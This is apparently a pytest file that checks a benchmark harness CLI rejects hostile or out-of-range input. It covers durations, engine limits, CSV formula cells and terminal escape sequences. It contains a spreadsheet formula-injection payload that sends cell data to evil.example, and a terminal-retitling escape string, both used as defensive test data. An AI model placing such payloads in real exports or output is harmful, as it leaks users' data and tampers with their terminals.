"""Values a hostile or unlucky user gives: durations beyond any run (each bounded,
the bound named), values the engine or model cannot take (checked when the spec is read), a
matrix whose every run failed (exit 1), cells a spreadsheet would run as formulas, control
characters from a board. Each is exit 2 and one line naming the file, key or flag."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from fixtures_db import add_refs, sample_result
from fixtures_ray import needle_spec
from test_hostile_input import SPEC, cli

from db import Store
from harness.cli import main
from harness.commands.export import export
from harness.execution.progress import Progress
from reports.audit.claims_file import load_claims
from reports.errors import ReportInputError
from reports.render import render_report


@pytest.mark.parametrize("extra, key, bound", [
    ("timeout_s = 1e300", "timeout_s", "<= 86400"),
    ("cooldown_s = 1e9", "cooldown_s", "<= 3600"),
    ("backoff_s = 1e12", "backoff_s", "<= 3600"),
])
def test_spec_durations_are_bounded(spec_dir, capsys, sqlite_url, extra, key, bound) -> None:
    path = spec_dir / "spec.toml"
    path.write_text(SPEC.format(extra=extra, depth="0.5"))
    code, err = cli(capsys, "--db", sqlite_url, "run", str(path))
    assert code == 2 and f"key '{key}'" in err and bound in err, err


@pytest.mark.parametrize("ttl", ["inf", "1e12", "2", "0.5"])
def test_lease_ttl_is_bounded(spec_dir, capsys, sqlite_url, ttl, monkeypatch) -> None:
    path = spec_dir / "spec.toml"
    path.write_text(SPEC.format(extra="", depth="0.5"))
    if float(ttl) > 86400:  # the flag refuses it while parsing
        with pytest.raises(SystemExit) as caught:
            main(["--db", sqlite_url, "run", str(path), "--lease-ttl", ttl])
        assert caught.value.code == 2 and "at most 86400" in capsys.readouterr().err
    else:
        code, err = cli(capsys, "--db", sqlite_url, "run", str(path), "--lease-ttl", ttl)
        assert code == 2 and "--lease-ttl" in err and "between 3 and 86400" in err, err
    monkeypatch.setenv("BENCHFARM_LEASE_TTL_S", ttl)
    code, err = cli(capsys, "--db", sqlite_url, "run", str(path))
    assert code == 2 and "$BENCHFARM_LEASE_TTL_S" in err and "between 3 and 86400" in err, err


def reported_with_error(tmp_path: Path, error: str) -> tuple[pd.DataFrame, pd.DataFrame]:
    """failures.csv of the report and runs.csv of the export of an experiment whose failed
    run's error is ``error``, as a spreadsheet would read them."""
    url = f"sqlite:///{tmp_path}/store.db"
    with Store.open(url) as store:
        refs = add_refs(store, experiment="e1")
        store.save_run(sample_result(refs, "a" * 64))
        store.save_run(sample_result(refs, "b" * 64, status="failed", exit_code=3, error=error))
        render_report(store, "e1", tmp_path / "report")
        export(store, "e1", "csv", tmp_path / "export")
    return (pd.read_csv(tmp_path / "report" / "failures.csv", keep_default_na=False),
            pd.read_csv(tmp_path / "export" / "runs.csv", keep_default_na=False))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, start) -> None:
    error = f'{start}=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    failures, runs = reported_with_error(tmp_path, error)
    for cells in (failures["error"], runs.loc[runs["status"] == "failed", "error"]):
        (cell,) = cells.tolist()
        assert cell.startswith("'") and cell[1:].strip() == error.strip(), cell
    # numbers stay numbers: a negative one is not a formula
    assert (runs.loc[runs["status"] == "ok", "exit_code"] == 0).all()


def test_control_characters_reach_the_terminal_escaped(tmp_path, capsys, sqlite_url) -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J\x9b31m"  # retitle, clear the screen, a C1 CSI
    code, err = cli(capsys, "--db", sqlite_url, "run", str(tmp_path / f"spec{hostile}.toml"))
    assert code == 2 and "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" in err
    assert not any(c in err for c in "\x1b\x07\x9b")
    stream = io.StringIO()
    Progress(1, ["local"], 0, stream).note(f"warm-up on local failed: lmc: error: {hostile}")
    assert "\\x1b[2J" in stream.getvalue() and "\x1b" not in stream.getvalue()


CLAIM = """[[claim]]
id = "c{i}"
statement = "s"
metric = "reported"
quantity = "q"
"""


@pytest.mark.parametrize("duplicate", [False, True])
def test_a_claims_file_with_many_claims_parses_in_one_pass(tmp_path, duplicate) -> None:
    # 30k claims: pairwise id checks made 50 MB files run over 300 s
    n = 30_000
    text = 'source = "s"\n' + "".join(CLAIM.format(i=i) for i in range(n))
    if duplicate:
        text += CLAIM.format(i=n // 2)
    path = tmp_path / "claims.toml"
    path.write_text(text)
    if duplicate:
        with pytest.raises(ReportInputError, match=f"claim 'c{n // 2}': key 'id': is used by"):
            load_claims(path)
    else:
        assert [c.id for c in load_claims(path).claims] == [f"c{i}" for i in range(n)]


@pytest.mark.parametrize("table, key, bound", [
    ("[engine]\nthreads = [1000]\n", "engine.threads", "<= 256"),
    ("[engine.policy.sparse]\nk = 1073741824\n", "engine.policy.sparse.k", "<= 16777216"),
    ("[engine.policy.sparse]\nblock = 1073741824\n", "engine.policy.sparse.block",
     "<= 1048576"),
])
def test_values_lmc_cannot_take_are_refused_with_the_spec(tmp_path, capsys, sqlite_url,
                                                          needle_model, table, key, bound):
    path = tmp_path / "spec.toml"
    path.write_text(f'name = "limits"\nmodel = "{needle_model}"\n{table}'
                    '[[workload]]\nkind = "needle"\nctx = 128\n')
    code, err = cli(capsys, "--db", sqlite_url, "run", str(path), "--dry-run")
    assert code == 2 and f"key '{key}'" in err and bound in err, err


def test_a_needle_longer_than_the_model_takes_is_refused(tmp_path, capsys, sqlite_url,
                                                         needle_model) -> None:
    path = tmp_path / "spec.toml"
    path.write_text(f'name = "long"\nmodel = "{needle_model}"\n[engine.policy.exact]\n'
                    '[[workload]]\nkind = "needle"\nctx = [128, 9000]\n')
    code, err = cli(capsys, "--db", sqlite_url, "run", str(path), "--dry-run")
    assert code == 2 and "key 'workload[0].ctx'" in err and "9000" in err
    assert "max_position_embeddings (8192" in err


def test_a_matrix_whose_every_run_failed_exits_1(ray_address, needle_model, tmp_path,
                                                 capsys) -> None:
    broken = tmp_path / "broken-model"
    shutil.copytree(needle_model, broken)
    weights = broken / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:1000])  # the engine cannot load it
    spec = needle_spec(tmp_path, "all-failed", broken, ["local"])
    url = f"sqlite:///{tmp_path}/failed.db"
    assert main(["--db", url, "run", str(spec), "--ray-address", ray_address]) == 1
    out = capsys.readouterr().out
    assert "2 failed" in out and "every run failed" in out
    with Store.open(url) as store:
        assert store.jobs.latest("all-failed").state == "failed"
